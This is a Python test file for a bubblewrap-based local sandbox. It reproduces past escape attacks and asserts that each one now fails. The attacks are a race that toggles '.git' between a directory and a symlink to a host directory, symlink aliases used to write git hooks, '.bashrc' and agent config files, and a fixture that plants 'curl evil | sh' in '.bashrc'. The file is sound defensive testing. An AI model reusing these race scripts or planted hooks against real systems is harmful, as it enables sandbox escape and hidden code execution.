"""Issue 11 items 1-4 against real bubblewrap: races, other processes, snapshots, aliases.

Each test reproduces an attack that worked before the protected paths were
checked by content around every command (with no host path ever bound into
the sandbox), and asserts it no longer does.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import anyio
import pytest

import corral
import corral.provider
from corral_local_sandbox import LocalSandboxProvider

pytestmark = [pytest.mark.bwrap, pytest.mark.anyio]

SECRET = "canary-secret-5f2d"
HOST_CONFIG = "the host's own config\n"
TOGGLE_SECONDS = 6.0

# Runs inside the sandbox: flips ".git" between a directory holding a config
# and a relative symlink to a host directory, holding each state long enough
# for a check in another process to see one and bwrap the other.
TOGGLER = """
import os, time
end = time.time() + {seconds}
while time.time() < end:
    try:
        if not os.path.isdir("d"):
            os.mkdir("d")
            with open("d/config", "w") as fh:
                fh.write("[core]\\n")
        if not os.path.islink("l"):
            os.symlink({target!r}, "l")
        os.rename("d", ".git"); time.sleep(0.002); os.rename(".git", "d")
        os.rename("l", ".git"); time.sleep(0.002); os.rename(".git", "l")
    except OSError:
        pass
"""
VICTIM = f"cat .git/secret 2>/dev/null; echo {SECRET}-written 2>/dev/null > .git/pwned; true"

# A second process: resolves the same ref and either runs the victim command
# in a loop ("victim SECONDS") or plants a hook and hangs ("plant").
DRIVER = """
import json, sys, time
import anyio, corral
from corral.provider import CommandRequest
from corral_local_sandbox import LocalSandboxProvider

async def main():
    ref = corral.ref_from_json(sys.argv[1])
    ws = await LocalSandboxProvider(tmpdir_root=sys.argv[2]).resolve(ref)
    if sys.argv[3] == "plant":
        await ws.shell.run(CommandRequest(
            "mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit && sleep 60",
            allow_shell_syntax=True, timeout_s=120))
        return
    end = time.monotonic() + float(sys.argv[4])
    out = []
    while time.monotonic() < end:
        try:
            r = await ws.shell.run(CommandRequest(sys.argv[5], allow_shell_syntax=True))
            out.append(r.stdout)
        except corral.OperationError as exc:
            out.append(exc.code)
    print(json.dumps(out))

anyio.run(main)
"""


@pytest.fixture
def anyio_backend() -> str:
    # The loops take seconds; the guard itself runs on both backends in test_escape.
    return "asyncio"


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    """A host directory outside every workspace that no command may read or write."""
    path = tmp_path / "canary"
    path.mkdir()
    (path / "secret").write_text(SECRET + "\n")
    (path / "config").write_text(HOST_CONFIG)
    return path


def _assert_canary_untouched(canary: Path) -> None:
    assert sorted(os.listdir(canary)) == ["config", "secret"]
    assert (canary / "config").read_text() == HOST_CONFIG  # item 2: never moved
    assert (canary / "secret").read_text() == SECRET + "\n"


async def _open(
    base: Path, **kw: Any
) -> tuple[LocalSandboxProvider, corral.provider.OpenedWorkspace]:
    provider = LocalSandboxProvider(tmpdir_root=str(base), **kw)
    opened = await provider.open(corral.ProviderConfig("local-sandbox"), corral.SessionRef("race"))
    return provider, opened


def _toggler(root: Path, canary: Path) -> corral.provider.CommandRequest:
    script = TOGGLER.format(seconds=TOGGLE_SECONDS, target=os.path.relpath(canary, root))
    return corral.provider.CommandRequest("/usr/bin/python3 -", stdin=script, timeout_s=60)


async def test_toggling_git_never_binds_a_host_directory(
    tmp_path: Path, canary: Path, sh: Callable[..., Any]
) -> None:
    """Item 1 (and 2): a second resolve of the same ref runs commands during the toggling."""
    _, opened = await _open(tmp_path / "base")
    attacker = opened.workspace
    victim = await LocalSandboxProvider(tmpdir_root=str(tmp_path / "base")).resolve(opened.ref)
    root = Path(attacker.details()["root"])
    outputs: list[str] = []
    refusals: set[str] = set()
    try:
        async with anyio.create_task_group() as tg:
            done = anyio.Event()

            async def toggle() -> None:
                assert attacker.shell is not None
                try:
                    await attacker.shell.run(_toggler(root, canary))
                finally:
                    done.set()

            tg.start_soon(toggle)
            while not done.is_set():
                try:
                    outputs.append((await sh(victim, VICTIM)).stdout)
                except corral.OperationError as exc:
                    refusals.add(exc.code)
        assert refusals <= {"policy_denied"}
        assert len(outputs) > 20  # the race was really run
        assert not any(SECRET in out for out in outputs)
        _assert_canary_untouched(canary)
        after = await sh(victim, "ls -a")
        assert ".git" not in after.stdout.split()
    finally:
        await victim.close()
        await attacker.close()


async def test_toggling_git_against_a_second_process(
    tmp_path: Path, canary: Path, sh: Callable[..., Any]
) -> None:
    """Item 1 with a true second process (as an MCP server beside a CLI call)."""
    base = tmp_path / "base"
    _, opened = await _open(base)
    attacker = opened.workspace
    root = Path(attacker.details()["root"])
    ref = corral.ref_to_json(opened.ref)
    args = [sys.executable, "-c", DRIVER, ref, str(base), "victim", str(TOGGLE_SECONDS), VICTIM]
    try:
        with subprocess.Popen(args, stdout=subprocess.PIPE, text=True) as proc:
            assert attacker.shell is not None
            await attacker.shell.run(_toggler(root, canary))
            out, _ = await anyio.to_thread.run_sync(proc.communicate)
        assert proc.returncode == 0
        results = json.loads(out)
        assert len(results) > 20
        assert not any(SECRET in r for r in results)
        _assert_canary_untouched(canary)
        assert ".git" not in (await sh(attacker, "ls -a")).stdout.split()
    finally:
        await attacker.close()


async def test_file_tools_check_the_resolved_target(tmp_path: Path, sh: Callable[..., Any]) -> None:
    """Item 3: ``ln -s . alias`` does not let the file tools write protected paths."""
    _, opened = await _open(tmp_path / "base", allow_leaf_symlinks=True)
    ws = opened.workspace
    fs: Any = ws.fs
    root = Path(ws.details()["root"])
    try:
        made = await sh(ws, "ln -s . alias && mkdir .git && ln -s .bashrc rc && ln -s .git g")
        assert made.exit_code == 0, made.stderr
        attempts = [
            fs.write_file("alias/.git/hooks/pre-commit", b"#!/bin/sh\nevil\n"),
            fs.write_file("alias/.bashrc", b"evil\n"),
            fs.write_file("alias/.vscode/tasks.json", b"{}"),
            fs.write_file("alias/alias/.mcp.json", b"{}"),
            fs.write_file("g/hooks/pre-commit", b"evil\n"),
            fs.write_file("g/config", b"[core]\n\tfsmonitor = evil\n"),
            fs.mkdir("alias/.claude"),
            fs.edit_file("alias/.gitmodules", "a", "b"),
            fs.rm("alias/.git", recursive=True),
            fs.write_file("rc", b"evil\n"),  # a leaf symlink the fs follows
        ]
        for attempt in attempts:
            with pytest.raises(corral.OperationError) as info:
                await attempt
            assert info.value.code == "policy_denied"
        listing = await sh(ws, "ls -a . .git")
        for name in (".bashrc", ".vscode", ".mcp.json", ".claude", "hooks", "config"):
            assert name not in listing.stdout.split(), name
        assert "moved out" not in listing.stderr  # nothing was left for the command's check
        assert not os.path.lexists(root / ".bashrc")
        await fs.write_file("alias/src/ok.txt", b"fine\n")  # ordinary writes still work
        assert (root / "src" / "ok.txt").read_bytes() == b"fine\n"
    finally:
        await ws.close()


async def test_a_plant_by_a_killed_process_is_caught_by_the_next_command(
    tmp_path: Path, sh: Callable[..., Any]
) -> None:
    """Item 4: process A plants mid-command and is SIGKILLed; B's next command never sees it."""
    base = tmp_path / "base"
    _, opened = await _open(base)
    root = Path(opened.workspace.details()["root"])
    other = await LocalSandboxProvider(tmpdir_root=str(base)).resolve(opened.ref)
    args = [sys.executable, "-c", DRIVER, corral.ref_to_json(opened.ref), str(base), "plant"]
    proc = subprocess.Popen(args, start_new_session=True)
    try:
        hook = root / ".git" / "hooks" / "pre-commit"
        deadline = time.monotonic() + 30
        while not hook.exists():
            assert proc.poll() is None, "the planting process ended early"
            assert time.monotonic() < deadline, "the plant never appeared"
            await anyio.sleep(0.05)
        os.killpg(proc.pid, signal.SIGKILL)
        await anyio.to_thread.run_sync(proc.wait)
        for ws in (other, opened.workspace):
            result = await sh(ws, "ls -a .git 2>&1; cat .git/hooks/pre-commit 2>&1; true")
            assert "evil" not in result.stdout
            assert "hooks" not in result.stdout.split()
        assert not os.path.lexists(root / ".git" / "hooks")
    finally:
        if proc.poll() is None:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
        await other.close()
        await opened.workspace.close()


async def test_restore_and_branch_never_bring_a_plant_back(
    tmp_path: Path, sh: Callable[..., Any]
) -> None:
    """Item 4: a snapshot taken while a plant existed does not restore or branch it."""
    provider, opened = await _open(tmp_path / "base")
    ws = opened.workspace
    assert ws.snapshot is not None
    root = Path(ws.details()["root"])
    try:
        # Stands in for a plant that exists while another process's command runs.
        (root / ".bashrc").write_text("curl evil | sh\n")
        (root / ".git" / "hooks").mkdir(parents=True)
        (root / "keep.txt").write_text("mine\n")
        snap = await ws.snapshot.snapshot("with a plant")
        await sh(ws, "true")
        assert not os.path.lexists(root / ".bashrc")
        await ws.snapshot.restore(snap.snapshot_id)
        assert (root / "keep.txt").read_text() == "mine\n"
        assert not os.path.lexists(root / ".bashrc")  # checked before anything uses it
        assert not os.path.lexists(root / ".git" / "hooks")
        branch = await ws.snapshot.branch(snap.snapshot_id)
        branch_root = Path(provider.layout.workspace_path(branch.payload["workspace"]))
        assert (branch_root / "keep.txt").read_text() == "mine\n"
        assert not os.path.lexists(branch_root / ".bashrc")
        assert not os.path.lexists(branch_root / ".git" / "hooks")
        branched = await provider.resolve(branch)
        try:
            assert ".bashrc" not in (await sh(branched, "ls -a")).stdout.split()
        finally:
            await branched.close()
    finally:
        await ws.close()
